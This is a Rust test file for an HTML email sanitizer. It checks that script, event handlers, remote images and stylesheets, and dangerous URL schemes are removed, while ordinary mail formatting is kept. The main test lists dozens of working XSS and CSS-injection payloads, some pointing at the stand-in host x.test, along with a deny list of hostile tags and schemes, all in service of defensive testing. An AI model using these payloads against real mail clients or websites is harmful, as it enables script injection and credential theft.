//! Cleaning HTML mail: what must be gone, what must stay.

use std::borrow::Cow;
use std::fmt::Write as _;

use mime::html::{self, CleanOptions, Page};
use mime::limits::{HTML_ATTRIBUTE_BYTES_MAX, HTML_DEPTH_MAX, HTML_ELEMENTS_MAX, INLINE_IMAGE_BYTES_MAX};
use mime::text;

const PNG: &[u8] = include_bytes!("../samples/logo.png");

fn clean(markup: &str) -> String {
    html::clean(markup, &CleanOptions::default()).html
}

fn with_image(markup: &str, bytes: &[u8]) -> String {
    let image = |id: &str| (id == "logo@x").then(|| Cow::Owned(bytes.to_vec()));
    html::clean(markup, &CleanOptions { inline_image: &image }).html
}

/// Asserts on the cleaned output in a form that ignores what text may say.
fn assert_harmless(source: &str, cleaned: &str) {
    let mut outside_text = String::new();
    for tag in cleaned.split('<').skip(1) {
        let _ = writeln!(outside_text, "<{}", tag.split('>').next().unwrap_or_default().to_lowercase());
    }
    for bad in [
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<meta",
        "<base",
        "<link",
        "<svg",
        "<math",
        "<template",
        "javascript:",
        "vbscript:",
        "expression(",
        "url(",
        "@import",
        "behavior",
        "position:",
        "srcset",
        "src=\"http",
        "src=\"//",
        "src=\"cid",
        "data:text",
    ] {
        assert!(!outside_text.contains(bad), "{bad:?} from {source:?} in {cleaned:?}");
    }
    for tag in outside_text.lines() {
        for attribute in tag.split_whitespace().skip(1) {
            let name = attribute.split('=').next().unwrap_or_default();
            let is_handler = name.starts_with("on") && attribute.contains('=');
            assert!(
                !is_handler || tag.contains("alt=") || tag.contains("title="),
                "{name:?} from {source:?} in {cleaned:?}"
            );
        }
    }
}

#[test]
fn hostile_markup_comes_out_harmless_j9() {
    let table = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//x.test/a.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img/src=x/onerror=alert(1)//",
        "<svg onload=alert(1)>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x'/>\"></use></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<style></style><img src=x onerror=alert(1)><style></style>",
        "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
        "<style>@import url(http://x.test/a.css); a[href^='x']{background:url(http://x.test/?x)}</style>",
        "<style>p{background:u\\72l(http://x.test)}</style>",
        "<style>p{color:red;}</sty</style><p>a",
        "<style>p::after{content:'</style><img src=x onerror=alert(1)>'}</style>",
        "<p style=\"background:url(http://x.test/a)\">a",
        "<p style=\"width:expression(alert(1))\">a",
        "<p style=\"behavior:url(#default#time2)\">a",
        "<p style=\"position:fixed;top:0;left:0;z-index:9999\">a",
        "<p style=\"background:u&#114;l(http://x.test)\">a",
        "<p style=\"background:\\75rl(http://x.test)\">a",
        "<p style=\"color:var(--x)\">a",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a href=\"java\tscript:alert(1)\">a</a>",
        "<a href=\"java&#10;script&colon;alert(1)\">a</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">a</a>",
        "<a href=\" \u{1}javascript:alert(1)\">a</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
        "<a href=\"DATA:text/html;base64,PHNjcmlwdD4=\">a</a>",
        "<a href=\"vbscript:msgbox(1)\">a</a>",
        "<base href=\"http://x.test/\"><a href=\"x\">a</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://x.test\">",
        "<link rel=stylesheet href=http://x.test/a.css>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"http://x.test/a.swf\"></object><embed src=\"http://x.test/a.swf\">",
        "<form action=\"http://x.test\"><input name=password><button>OK</button></form>",
        "<video poster=\"http://x.test/a.png\" src=\"http://x.test/a.mp4\"></video>",
        "<img src=\"//x.test/a.png\"><img srcset=\"http://x.test/a.png 2x\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<table background=\"http://x.test/a.png\"><tr><td background=\"http://x.test/b.png\">a</table>",
        "<!--><script>alert(1)</script>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!--[if !mso]><!--><script>alert(1)</script><!--<![endif]-->",
        "<?xml version=\"1.0\"?><?php echo 1 ?><p>a",
        "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<template><img src=x onerror=alert(1)></template>",
        "<a title='\"><script>alert(1)</script>'>a</a>",
        "<font color=\"expression(alert(1))\" face=\"url(x)\">a</font>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<p\0 onclick=alert(1)><scr\0ipt>alert(1)</scr\0ipt>",
        "<div onmouseover\u{c}=alert(1)>a</div>",
    ];
    for source in table {
        let cleaned = clean(source);
        assert_harmless(source, &cleaned);
        assert_harmless(source, &clean(&cleaned));
    }
}

#[test]
fn remote_things_are_counted_and_gone() {
    let sample = html::clean(
        "<link rel=stylesheet href=https://a.test/x.css><style>@import url(https://a.test/y.css);</style><img src='https://a.test/p.gif'>\
         <td background=https://a.test/b.png><img src='cid:x'><p style='background:url(https://a.test/c.png)'>Text hier",
        &CleanOptions::default(),
    );
    assert_eq!(sample.blocked_remote_count, 5);
    assert_eq!(sample.text_words, 2);
    assert!(!sample.html.contains("a.test"), "{}", sample.html);
}

#[test]
fn inline_images_are_shown_by_their_content_only() {
    let shown = with_image("<img src=\"cid:logo%40x\" alt=\"Logo\" width=176>", PNG);
    assert!(shown.starts_with("<img src=\"data:image/png;base64,iVBOR"), "{shown}");
    assert!(shown.contains("alt=\"Logo\"") && shown.contains("width=\"176\""), "{shown}");
    assert!(!with_image("<img src='cid:logo@x'>", b"<svg onload=alert(1)>").contains("src"));
    assert!(!with_image("<img src='cid:other@x'>", PNG).contains("src"));
    let mut huge = PNG.to_vec();
    huge.resize(INLINE_IMAGE_BYTES_MAX, 0);
    assert!(with_image("<img src='cid:logo@x'>", &huge).contains("src"));
    huge.push(0);
    assert!(!with_image("<img src='cid:logo@x'>", &huge).contains("src"));
}

#[test]
fn links_open_apart_and_say_nothing() {
    let cleaned = clean(
        "<a href=\"https://a.test/?a=1&amp;b=2\">A</a><a href=mailto:a@b.test>B</a><a href=\"tel:+49\">C</a><a href=/x>D</a>",
    );
    assert_eq!(cleaned.matches("rel=\"noopener noreferrer nofollow\"").count(), 4, "{cleaned}");
    assert_eq!(cleaned.matches("target=\"_blank\"").count(), 4);
    assert!(cleaned.contains("href=\"https://a.test/?a=1&amp;b=2\""), "{cleaned}");
    assert!(cleaned.contains("mailto:a@b.test") && cleaned.contains("tel:+49") && !cleaned.contains("\"/x\""));
}

/// Pseudo-elements make boxes that no element owns, and counting pseudo-classes tell about what lies around.
#[test]
fn selectors_name_states_of_links_and_nothing_else_behind_a_colon() {
    for (selector, stays) in [
        ("a:link", true),
        ("a:HOVER, a:visited", true),
        ("p::first-line", false),
        ("h1:before", false),
        ("p:first-letter", false),
        ("a: link", false),
        ("a::link", false),
        ("li:nth-child(2)", false),
        (":root", false),
        ("p:", false),
    ] {
        let cleaned = clean(&format!("<style>{selector}{{color:red}}</style><p>x"));
        assert_eq!(cleaned.contains("color:red"), stays, "{selector}: {cleaned}");
    }
}

#[test]
fn tables_colours_and_styles_of_ordinary_mail_stay() {
    let cleaned = clean(
        "<style>p.MsoNormal, li {margin:0cm;font-family:\"Calibri\",sans-serif;mso-x:y}\n@page X {size:1pt} \
         @media (max-width:600px) {.wide {width:100% !important}}</style>\
         <body style='color:#333' bgcolor=red><table width=600 cellpadding=0 border=1 bgcolor='#eeeeee'><tr><td valign=top colspan=2 \
         style='border:solid #BFBFBF 1.0pt;padding:2.8pt 5.4pt;mso-border-alt:x'><p class=MsoNormal align=center>Ä<o:p>&nbsp;</o:p></p>\
         <font color=red face='Arial' size=2>x</font></td></tr></table>",
    );
    for kept in [
        "p.MsoNormal, li{margin:0cm;font-family:'Calibri',sans-serif}",
        "@media (max-width:600px){.wide{width:100% !important}}",
        "<div style=\"color:#333\">",
        "width=\"600\"",
        "cellpadding=\"0\"",
        "bgcolor=\"#eeeeee\"",
        "border:solid #BFBFBF 1.0pt",
        "padding:2.8pt 5.4pt",
        "class=\"MsoNormal\"",
        "align=\"center\"",
        "face=\"Arial\"",
        "Ä",
    ] {
        assert!(cleaned.contains(kept), "{kept:?} in {cleaned}");
    }
    assert!(!cleaned.contains("mso-") && !cleaned.contains("@page") && !cleaned.contains("o:p"), "{cleaned}");
}

#[test]
fn markup_is_balanced_as_a_browser_reads_it() {
    for (source, wanted) in [
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<b>a</i>b", "<b>ab</b>"),
        ("1 < 2 <3", "1 &lt; 2 &lt;3"),
        ("a<br/>b</br>c", "a<br>b<br>c"),
        ("<p title='a>b'>c", "<p title=\"a&gt;b\">c</p>"),
        ("a<![if !vml]><b>c</b><![endif]>", "a<b>c</b>"),
        ("<v:shape><v:imagedata src=x></v:shape>Text", "Text"),
    ] {
        assert_eq!(clean(source).replace("a>b", "a&gt;b"), wanted, "{source}");
    }
}

#[test]
fn depth_is_flattened_and_the_text_stays() {
    let deep = format!("{}innen{}", "<div>".repeat(40_000), "</div>".repeat(40_000));
    let cleaned = html::clean(&deep, &CleanOptions::default());
    assert_eq!(cleaned.html.matches("<div>").count(), HTML_DEPTH_MAX);
    assert!(cleaned.html.contains("innen"));
    assert_eq!(html::to_text(&deep).trim(), "innen");
    let scoped = "<div><table><tr><td></div>".repeat(10_000);
    assert!(html::clean(&scoped, &CleanOptions::default()).html.matches("<div>").count() < HTML_DEPTH_MAX);
    let misnested = "<p><b><font size=1><i></p>".repeat(10_000);
    assert!(html::clean(&misnested, &CleanOptions::default()).html.len() < 100 * misnested.len());
    for piece in [
        "<a ",
        "<!--",
        "<svg>",
        "<a b=\"",
        "</",
        "<style>",
        "&",
        "<b><a>",
        "<table>",
        "<!--a--!>",
        "<select><option>",
        "<li>",
    ] {
        html::clean(&piece.repeat(60_000), &CleanOptions::default());
    }
}

#[test]
fn long_runs_of_references_stay_whole() {
    let source = "a&amp;b &uuml; ".repeat(20_000);
    let cleaned = clean(&source);
    assert!(cleaned.contains("<wbr>"));
    assert_eq!(cleaned.replace("<wbr>", ""), "a&amp;b ü ".repeat(20_000));
    let attribute = |length| clean(&format!("<p title=\"{}\">", "x".repeat(length))).len();
    assert!(
        attribute(HTML_ATTRIBUTE_BYTES_MAX) > HTML_ATTRIBUTE_BYTES_MAX && attribute(HTML_ATTRIBUTE_BYTES_MAX + 1) < 100
    );
    let elements = html::clean(&"<b></b>".repeat(HTML_ELEMENTS_MAX), &CleanOptions::default());
    assert!(!elements.cut);
    assert!(html::clean(&"<b></b>".repeat(HTML_ELEMENTS_MAX + 1), &CleanOptions::default()).cut);
}

#[test]
fn html_reads_as_text() {
    let text = html::to_text(
        "<style>p{}</style><p>Guten <b>Tag</b> Fr&auml;ulein</p><p>mehr &amp; mehr</p><a href='https://a.test/'>hier</a>",
    );
    assert!(text.contains("Guten **Tag** Fräulein") || text.contains("Guten Tag Fräulein"), "{text}");
    assert!(text.contains("mehr & mehr") && text.contains("https://a.test/"), "{text}");
}

#[test]
fn document_wraps_for_a_sandboxed_frame() {
    let page = Page { lang: "de", dir: "auto", title: "A \"<b>", base_css: "p{}</style><script>" };
    let document = html::document("<p>x</p>", &page);
    assert!(document.starts_with("<!DOCTYPE html>\n<html lang=\"de\" dir=\"auto\">"));
    assert!(document.contains("default-src 'none'") && document.contains("<title>A &quot;&lt;b&gt;</title>"));
    assert_eq!(document.matches("</style>").count(), 1);
}

#[test]
fn plain_text_is_escaped_linked_and_quoted() {
    let html = text::to_html("Hallo <b>\nsiehe https://a.test/x?a=1&b=2. und (www.b.test)\n> alt\n>> älter\n-- \nJörg");
    for wanted in [
        "Hallo &lt;b&gt;",
        "<a href=\"https://a.test/x?a=1&amp;b=2\"",
        "</a>. und (<a href=\"https://www.b.test\"",
        "</a>)",
        "<blockquote class=\"quote quote-1\"><div class=\"line\">alt</div><blockquote class=\"quote quote-2\"><div class=\"line\">älter",
        "</blockquote></blockquote><div class=\"signature\">",
    ] {
        assert!(html.contains(wanted), "{wanted:?} in {html}");
    }
    assert!(!text::to_html("javascript:alert(1) https://\" onclick=x data:text/html,x").contains("onclick=x\""));
    text::to_html(&format!("http://a.{}", ")".repeat(1_000_000)));
    text::to_html(&">".repeat(1_000_000));
}

#[test]
fn flowed_text_is_joined_rfc_3676() {
    let flowed = text::Flow { flowed: true, delete_space: false };
    assert_eq!(
        text::unflow("Ein langer \r\nSatz.\r\n> zitiert \r\n> weiter\r\n-- \r\nJ", flowed),
        "Ein langer Satz.\n> zitiert weiter\n-- \nJ\n"
    );
    assert_eq!(text::unflow(" >kein Zitat\n", flowed), ">kein Zitat\n");
    assert_eq!(text::unflow("a \nb", text::Flow { flowed: true, delete_space: true }), "ab\n");
    assert_eq!(text::unflow("a \nb", text::Flow::default()), "a \nb\n");
}

#[test]
fn a_background_loses_its_image_and_keeps_its_colour() {
    for style in
        ["background:#123456 url(https://a.test/x.png) no-repeat", "background:url('https://a.test/x.png') #123456"]
    {
        let cleaned = html::clean(&format!("<p style=\"{style}\">a</p>"), &CleanOptions::default());
        assert!(cleaned.html.contains("#123456") && !cleaned.html.contains("a.test"), "{}", cleaned.html);
        assert_eq!(cleaned.blocked_remote_count, 1);
    }
}
